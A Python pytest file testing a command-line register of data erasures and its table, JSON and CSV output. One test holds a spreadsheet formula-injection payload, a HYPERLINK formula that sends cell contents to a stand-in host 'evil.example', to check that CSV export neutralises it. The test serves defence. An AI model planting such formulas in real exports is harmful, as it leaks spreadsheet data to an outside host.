"""The register of erasures from the command line, as a table, as JSON and for a spreadsheet."""

import csv
import io
import json
from datetime import timedelta

import pytest

from devstack.gcs_front import GcsFront
from ops import erasure_register
from ops.erasure_register import no_formula
from ops.shell import DOWN, USAGE, WRONG
from tests.conftest import MakeEnvironment
from tests.support.cleanup import CleanupWorld
from tests.support.clock import NOON, ManualClock
from tests.support.commands import run_command
from tests.support.database import TestDatabase


@pytest.fixture
def world(
    database: TestDatabase, gcs_front: GcsFront, bucket: str, make_environment: MakeEnvironment, clock: ManualClock
) -> CleanupWorld:
    """An empty database and bucket."""
    return CleanupWorld(database, gcs_front, bucket, make_environment, clock)


def add_erasures(database: TestDatabase, count: int, job: str = "opt_out_cleanup") -> None:
    database.execute(
        "INSERT INTO maintenance.erasures (job, run_id, job_run_id, user_hash, extent, row_counts, erased_at) "
        "SELECT :job, 7, gen_random_uuid(), sha256('x'), 'content', '{}', :now FROM generate_series(1, :count)",
        job=job,
        count=count,
        now=NOON,
    )


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_an_empty_register_says_so(environ: dict[str, str]) -> None:
    assert run_command("erasures", environ=environ).stdout == "Nothing was erased yet.\n"
    assert json.loads(run_command("erasures", "--json", environ=environ).stdout) == []
    exported = run_command("erasures", "--export", "csv", environ=environ)
    assert (exported.exit_code, read_csv(exported.stdout), exported.stdout[:13]) == (0, [], "id,erased_at,")


def test_what_a_cleanup_erased_stands_in_it_and_its_user_finds_it(world: CleanupWorld, environ: dict[str, str]) -> None:
    anns = world.draft(world.job("ann"))
    world.file(anns, "jobs/a/secret-name.pdf")
    bobs = world.draft(world.job("bob"))
    world.run("abandoned_cleanup")
    told = json.loads(run_command("erasures", "--json", environ=environ).stdout)
    by_run = {row["job_run_id"]: row for row in told}
    assert set(by_run) == {anns, bobs}
    row = by_run[anns]
    assert (row["job"], row["extent"], row["objects"], row["copies"]) == ("abandoned_cleanup", "run", 1, "none")
    assert (row["erased_at"], row["completed_at"]) == ("2026-05-15T12:00:00Z", "2026-05-15T12:00:00Z")
    assert row["row_counts"]["source_files"] == 1
    (recorded,) = (each for each in world.erasures() if each["erased"] == anns)
    assert row["user_hash"] == bytes(recorded["user_hash"]).hex()

    found = json.loads(run_command("erasures", "--user", "ann", "--json", environ=environ).stdout)
    assert [each["job_run_id"] for each in found] == [anns]
    (exported,) = read_csv(run_command("erasures", "--user", "ann", "--export", "csv", environ=environ).stdout)
    assert {**exported, "row_counts": json.loads(exported["row_counts"])} == {
        **{name: "" if value is None else str(value) for name, value in row.items()},
        "row_counts": row["row_counts"],
    }
    nobody = run_command("erasures", "--user", "eve", environ=environ)
    assert (nobody.exit_code, nobody.stdout) == (0, "Nothing of this user was erased.\n")
    table = run_command("erasures", environ={**environ, "COLUMNS": "200"}).stdout
    assert anns in table
    assert "secret-name" not in table


def test_an_export_has_all_and_a_table_the_newest(
    database: TestDatabase, environ: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also where it is read in several parts, the last of them full or not."""
    monkeypatch.setattr(erasure_register, "_PAGE", 10)
    add_erasures(database, 25)
    ids = [str(row["id"]) for row in database.rows("SELECT id FROM maintenance.erasures ORDER BY id DESC")]

    def exported(*options: str) -> list[str]:
        return [
            row["id"] for row in read_csv(run_command("erasures", "--export", "csv", *options, environ=environ).stdout)
        ]

    assert exported() == ids
    assert exported("--limit", "10") == ids[:10]
    assert exported("--limit", "13") == ids[:13]
    shown = json.loads(run_command("erasures", "--json", environ=environ).stdout)
    assert [str(row["id"]) for row in shown] == ids[:20]
    assert len(json.loads(run_command("erasures", "--limit", "24", "--json", environ=environ).stdout)) == 24
    add_erasures(database, 5)
    assert len(exported()) == 30


def test_an_erasure_that_waits_and_copies_that_stay_are_shown(database: TestDatabase, environ: dict[str, str]) -> None:
    add_erasures(database, 1)
    environ = {**environ, "COLUMNS": "200"}
    assert run_command("erasures", environ=environ).stdout.split()[-2:] == ["-", "-"]
    database.execute(
        "UPDATE maintenance.erasures SET completed_at = :now, copies = 'soft_delete', copies_until = :until",
        now=NOON,
        until=NOON + timedelta(days=7),
    )
    assert (
        run_command("erasures", environ=environ)
        .stdout.rstrip()
        .endswith("2026-05-15T12:00:00Z  soft_delete until 2026-05-22T12:00:00Z")
    )


def test_what_a_spreadsheet_would_take_for_a_formula_is_made_harmless(
    database: TestDatabase, environ: dict[str, str]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    add_erasures(database, 1, job=formula)
    done = run_command("erasures", "--export", "csv", environ=environ)
    assert read_csv(done.stdout)[0]["job"] == f"'{formula}"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@SUM(A1)", " =1", "\uff1d1"])
def test_every_beginning_of_a_formula_is_known(text: str) -> None:
    assert no_formula(text) == f"'{text}"


def test_harmless_text_stays_and_control_characters_are_made_visible() -> None:
    assert (no_formula("run 1=1"), no_formula(""), no_formula("\t=1")) == ("run 1=1", "", r"\t=1")


@pytest.mark.parametrize(
    ("arguments", "sentence"),
    [
        (["--export", "xlsx"], "'xlsx' is not 'csv'"),
        (["--export", "csv", "--json"], "Name one."),
        (["--user", ""], "must not be empty"),
        (["--user", "\udcff"], "must be UTF-8"),
        (["--limit", "0"], "0 is not in the range"),
    ],
)
def test_a_wrong_command_line_is_told(arguments: list[str], sentence: str, environ: dict[str, str]) -> None:
    done = run_command("erasures", *arguments, environ=environ)
    assert (done.exit_code, done.stdout) == (USAGE, "")
    assert sentence in done.stderr


@pytest.mark.parametrize("options", [[], ["--user", "ann"], ["--export", "csv"]])
def test_a_database_that_is_down_or_without_our_schema_is_told(
    options: list[str], database: TestDatabase, environ: dict[str, str]
) -> None:
    """And nothing is printed that could be taken for an empty register."""
    down = run_command("erasures", *options, environ={"DATABASE_URL": "postgresql://ann:s3cret@127.0.0.1:1/byte"})
    assert (down.exit_code, down.stdout) == (DOWN, "")
    assert "accepts no connection" in down.stderr
    database.script("DROP SCHEMA maintenance CASCADE")
    gone = run_command("erasures", *options, environ=environ)
    assert (gone.exit_code, gone.stdout) == (WRONG, "")
    assert "python -m ops migrate" in gone.stderr


@pytest.mark.parametrize("options", [[], ["--user", "ann"], ["--export", "csv"]])
def test_a_copy_of_another_environment_is_told(
    options: list[str], database: TestDatabase, environ: dict[str, str]
) -> None:
    add_erasures(database, 1)
    database.execute("UPDATE maintenance.identity SET instance = 'elsewhere:5432'")
    done = run_command("erasures", *options, environ=environ)
    assert (done.exit_code, done.stdout) == (WRONG, "")
    assert "belongs to another environment" in done.stderr


def test_help_ends_with_an_example(environ: dict[str, str]) -> None:
    assert "Example: python -m ops erasures --user" in " ".join(
        run_command("erasures", "--help", environ=environ).stdout.split()
    )
